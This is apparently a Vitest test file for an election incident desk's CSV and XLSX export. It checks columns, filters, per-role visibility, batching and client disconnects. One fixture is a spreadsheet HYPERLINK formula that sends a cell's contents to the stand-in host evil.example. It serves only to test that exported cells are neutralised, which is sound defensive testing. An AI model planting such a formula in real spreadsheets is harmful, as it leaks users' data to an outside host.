import { request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { APUAN, openIncidentDesk, report, type Who } from '../incidents/test-desk.js';

/** Wednesday 27 November 2024, 10:00 WITA: Pilkada voting day. */
const clock = { now: () => new Date('2024-11-27T02:00:00Z') };
let desk: Awaited<ReturnType<typeof openIncidentDesk>>;

const TRICKY = 'Warga berkata "amplop, dua kali",\ndi banjar; lalu\r\npulang';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")';

/** The reports, newest event first: Bali (Apuan, Bangli) and Lombok Barat, a tricky description and a formula among them. */
beforeAll(async () => {
  desk = await openIncidentDesk(clock);
  const submit = async (who: Who, overrides: Record<string, unknown>) => {
    const response = await desk.call(who, 'POST', '/incidents', report(overrides));
    expect(response.statusCode, response.body).toBe(201);
  };
  for (let n = 0; n < 12; n += 1) {
    await submit('reporter', { occurredAt: new Date(Date.UTC(2024, 10, 10, n)).toISOString(), description: `Laporan Bali nomor ${n}` });
  }
  // Two reports at the same instant: the id decides their order, as in the list.
  for (let n = 0; n < 6; n += 1) {
    await submit('ntb', { regionCode: '52.01', latitude: null, longitude: null, category: 'logistik', severity: 'rendah', occurredAt: `2024-11-0${1 + (n % 3)}T00:00:00Z`, description: `Surat suara kurang ${n}` });
  }
  await submit('bali', { description: TRICKY, occurredAt: '2024-11-19T12:00:00Z' });
  await submit('bali', { description: FORMULA, tps: '+62 TPS', occurredAt: '2024-11-18T12:00:00Z' });
});
afterAll(async () => desk?.close());

const csvRows = (body: string) => parse(body.replace(/^\uFEFF/, ''), { relaxQuotes: false }) as string[][];

async function exportCsv(who: Who, query = '', headers: Record<string, string> = {}) {
  const response = await desk.call(who, 'GET', `/incidents/export${query}`, undefined, headers);
  expect(response.statusCode, response.body).toBe(200);
  return response;
}

/** The references GET /incidents shows the caller for `query`, in its order. */
async function listed(who: Who, query = ''): Promise<string[]> {
  const response = await desk.call(who, 'GET', `/incidents?limit=500${query ? `&${query.slice(1)}` : ''}`);
  expect(response.statusCode, response.body).toBe(200);
  return (response.json().items as { reference: string }[]).map((item) => item.reference);
}

describe('GET /incidents/export', () => {
  it('answers the rows the list shows, in its order, as CSV with a BOM, translated headers and a dated file name', async () => {
    const response = await exportCsv('admin');
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe('attachment; filename="laporan-insiden-20241127.csv"');
    expect(response.body.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = csvRows(response.body);
    expect(header).toEqual([
      'Nomor laporan', 'Waktu kejadian', 'Waktu diketahui', 'Provinsi', 'Kabupaten/Kota', 'Kode wilayah', 'Nama wilayah', 'Kode kategori', 'Kategori',
      'Tingkat keparahan', 'Status', 'Kanal', 'TPS', 'Uraian kejadian', 'Unit tujuan', 'Dicatat pada',
    ]);
    expect(rows.map((row) => row[0])).toEqual(await listed('admin'));
    expect(rows).toHaveLength(20);
  });

  it('writes times on the region’s wall clock with its zone, the places’ names, category names, and no reporter name or contact', async () => {
    const rows = csvRows((await exportCsv('admin')).body);
    const tricky = rows.find((row) => row[13] === TRICKY)!;
    expect(tricky.slice(1, 13)).toEqual([
      '2024-11-19 20.00 WITA', '2024-11-20 11.00 WITA', 'Bali', 'Kabupaten Bangli', APUAN, 'Apuan', 'politik_uang', 'Politik uang', 'tinggi', 'baru', 'web', 'TPS 003',
    ]);
    expect(tricky[15]).toBe('2024-11-27 10.00 WITA');
    const lombok = rows.find((row) => row[5] === '52.01')!;
    expect(lombok.slice(3, 9)).toEqual(['Nusa Tenggara Barat', 'Kabupaten Lombok Barat', '52.01', 'Kabupaten Lombok Barat', 'logistik', expect.any(String)]);
    const body = (await exportCsv('admin')).body;
    expect(body).not.toContain('Ni Luh Sari');
    expect(body).not.toContain('3456-7890');
  });

  it('keeps commas, quotes and line breaks of a description inside its cell', async () => {
    const rows = csvRows((await exportCsv('admin')).body);
    expect(rows.filter((row) => row[13] === TRICKY)).toHaveLength(1);
    expect(rows.every((row) => row.length === 16)).toBe(true);
  });

  it('neutralises formulas in CSV and XLSX cells (a leading quote)', async () => {
    const rows = csvRows((await exportCsv('admin')).body);
    const row = rows.find((cells) => cells[13]?.includes('HYPERLINK'))!;
    expect(row[13]).toBe(`'${FORMULA}`);
    expect(row[12]).toBe("'+62 TPS");
    const sheet = await exportXlsx('admin');
    const cells = sheet.find((cellsOfRow) => String(cellsOfRow[13]).includes('HYPERLINK'))!;
    expect(cells[13]).toBe(`'${FORMULA}`);
  });

  it('filters like the list: region subtree, status, category, severity, time window, text', async () => {
    for (const query of ['?region=52', '?region=51.06&category=politik_uang', '?severity=rendah', '?from=2024-11-10T05:00:00Z&to=2024-11-19T00:00:00Z', '?q=amplop', '?status=open']) {
      const rows = csvRows((await exportCsv('admin', query)).body).slice(1);
      expect(rows.map((row) => row[0]), query).toEqual(await listed('admin', query));
    }
    expect(csvRows((await exportCsv('admin', '?region=52')).body)).toHaveLength(7);
  });

  it('shows each caller what its list shows: a province its subtree, a reporter its own', async () => {
    for (const who of ['bali', 'ntb', 'officer', 'reporter', 'reporter2', 'viewer'] as const) {
      const rows = csvRows((await exportCsv(who)).body).slice(1);
      expect(rows.map((row) => row[0]), who).toEqual(await listed(who));
    }
    const bali = csvRows((await exportCsv('bali')).body).slice(1);
    expect(bali).toHaveLength(14);
    expect(bali.every((row) => row[5]!.startsWith('51.'))).toBe(true);
    expect(csvRows((await exportCsv('reporter')).body).slice(1)).toHaveLength(12);
    expect(csvRows((await exportCsv('reporter2')).body).slice(1)).toHaveLength(0);
  });

  it('reads in keyset batches: 7 at a time gives every row once, in order, also between reports at the same instant', async () => {
    const batches: number[] = [];
    desk.services.incidentExport.settings.batchSize = 7;
    desk.services.incidentExport.settings.afterBatch = (rows) => void batches.push(rows);
    try {
      const rows = csvRows((await exportCsv('admin')).body).slice(1);
      expect(rows.map((row) => row[0])).toEqual(await listed('admin'));
      expect(batches).toEqual([7, 14, 20]);
    } finally {
      desk.services.incidentExport.settings.batchSize = 2_000;
      delete desk.services.incidentExport.settings.afterBatch;
    }
  });

  it('answers XLSX that exceljs reads back with the same rows, headers in English with lang=en or Accept-Language', async () => {
    const sheet = await exportXlsx('admin');
    const csv = csvRows((await exportCsv('admin')).body);
    // Cell for cell the CSV's rows: an empty CSV cell is an empty XLSX cell, and XML reads a CR LF as LF.
    expect(sheet).toEqual(csv.map((row) => row.map((cell) => (cell === '' ? null : cell.replace(/\r\n/g, '\n')))));
    expect(sheet).toHaveLength(21);
    const english = await exportXlsx('admin', '?format=xlsx&lang=en');
    expect(english[0]!.slice(0, 3)).toEqual(['Reference', 'Occurred at', 'Known at']);
    expect(english.find((row) => row[7] === 'logistik')![8]).toBe('Logistics failure');
    const viaHeader = await exportCsv('admin', '', { 'accept-language': 'en-US,en;q=0.9' });
    expect(viaHeader.headers['content-disposition']).toBe('attachment; filename="incident-reports-20241127.csv"');
    expect(csvRows(viaHeader.body)[0]![0]).toBe('Reference');
  });

  it('refuses bad queries with 400 and a translated message, and signed-out callers with 401', async () => {
    for (const query of ['?format=pdf', '?region=Bali', '?status=lost', '?from=yesterday', '?limit=5', '?lang=fr']) {
      const response = await desk.call('admin', 'GET', `/incidents/export${query}`);
      expect(response.statusCode, query).toBe(400);
      expect(response.json().message, query).toMatch(/tidak valid/);
    }
    expect((await desk.call(null, 'GET', '/incidents/export')).statusCode).toBe(401);
  });

  it('stops reading the database when the client goes away mid-export, and the server carries on', async () => {
    const settings = desk.services.incidentExport.settings;
    settings.batchSize = 3;
    const batches: number[] = [];
    let clientGone: () => void = () => {};
    const gone = new Promise<void>((resolve) => (clientGone = resolve));
    // The first batch waits until the client has hung up, so the disconnect lands mid-export every time.
    settings.afterBatch = async (rows) => {
      batches.push(rows);
      if (batches.length === 1) await gone;
    };
    await desk.app.listen({ port: 0, host: '127.0.0.1' });
    try {
      const { port } = desk.app.server.address() as AddressInfo;
      await new Promise<void>((resolve, reject) => {
        const req = httpRequest({ host: '127.0.0.1', port, path: '/api/v1/incidents/export', headers: { cookie: `sinergi_session=${desk.sessions.admin}`, origin: 'http://localhost:80' } }, (res) => {
          expect(res.statusCode).toBe(200);
          // Hang up once the first batch's rows arrived (the header alone comes before any read).
          let received = '';
          res.on('data', (chunk: Buffer) => {
            received += chunk.toString('utf8');
            if (!received.includes('INS-')) return;
            req.destroy();
            resolve();
          });
        });
        req.on('error', () => undefined);
        req.on('close', resolve);
        req.end();
        setTimeout(() => reject(new Error('no first bytes')), 10_000).unref();
      });
      // Give the server the moment it needs to see the socket close, then let the export go on.
      await new Promise((resolve) => setTimeout(resolve, 200));
      const reads = vi.spyOn(desk.database.db, 'execute');
      clientGone();
      await new Promise((resolve) => setTimeout(resolve, 200));
      expect(batches).toEqual([3]);
      // Not one more query: the reads stopped before the next batch.
      expect(reads).not.toHaveBeenCalled();
      reads.mockRestore();
      // Still serving: another export completes.
      const rows = csvRows((await exportCsv('admin')).body).slice(1);
      expect(rows).toHaveLength(20);
    } finally {
      settings.batchSize = 2_000;
      delete settings.afterBatch;
    }
  });
});

async function exportXlsx(who: Who, query = '?format=xlsx'): Promise<(string | null)[][]> {
  const response = await desk.call(who, 'GET', `/incidents/export${query}`);
  expect(response.statusCode, response.body).toBe(200);
  expect(response.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0]!;
  const rows: (string | null)[][] = [];
  sheet.eachRow((row) => {
    rows.push(Array.from({ length: 16 }, (_, i) => {
      const value = row.getCell(i + 1).value;
      return value === null || value === undefined ? null : String(value);
    }));
  });
  return rows;
}
